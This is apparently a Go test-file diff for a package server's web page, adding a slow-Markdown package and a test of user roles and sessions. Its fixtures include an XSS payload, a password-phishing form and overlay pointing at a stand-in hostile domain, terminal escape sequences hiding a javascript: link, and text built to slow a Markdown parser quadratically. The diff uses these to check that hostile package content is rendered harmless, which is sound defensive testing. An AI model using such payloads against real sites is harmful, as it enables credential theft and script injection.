@@ -364,6 +364,10 @@ func TestThePageStaysInStep(t *testing.T) {
 			"<style>body{display:none}</style> <form action='https://evil.example'><input name=password></form> <a href='https://evil.example' style='position:fixed;inset:0'>x</a>\n",
 		"LICENSE.md": "<img src=x onerror=__pwned()> What evil allows",
 	}))
+	// Of this one the text costs a reader of Markdown a time that grows with the square of its length, and the name has no place to break.
+	w.install(t, servertest.PackageWith(t, "slow", func(m map[string]any) {
+		m["title"] = strings.Repeat("Wide", 40)
+	}, map[string]string{"instructions.md": strings.Repeat("_a", 100_000)}))
 	// What it prints is as ill meant: markup, and what steers terminals.
 	for _, said := range []string{"<img src=x onerror=__pwned()>", "\u001b]8;;javascript:__pwned()\u001b\\click\u001b]8;;\u001b\\ \u001b[2J\u202edone"} {
 		input, err := json.Marshal(map[string]string{"greeting": said, "color": "#b5442c"})
@@ -536,6 +540,22 @@ func TestWhatBelongsToTheServer(t *testing.T) {
 			values := maps.Clone(look)
 			values["expects"] = "status of 503" // of a mail server that is not there
 			w.play(t, "house.mjs", values)
+		})
+	}
+}
+
+// Two people and their sessions: what the roles allow, and what is told of a restart.
+func TestPeopleInThePage(t *testing.T) {
+	t.Parallel()
+	for name, look := range looks {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			if _, err := w.local.Accounts.ClaimServer(t.Context(), &accountsv1.ClaimServerRequest{Account: "alex", Password: "correct horse battery"}); err != nil {
+				t.Fatal(err)
+			}
+			w.install(t, servertest.Package(t, "hello", func(m map[string]any) { m["title"] = "Hello" }))
+			w.play(t, "people.mjs", maps.Clone(look))
 		})
 	}
 }
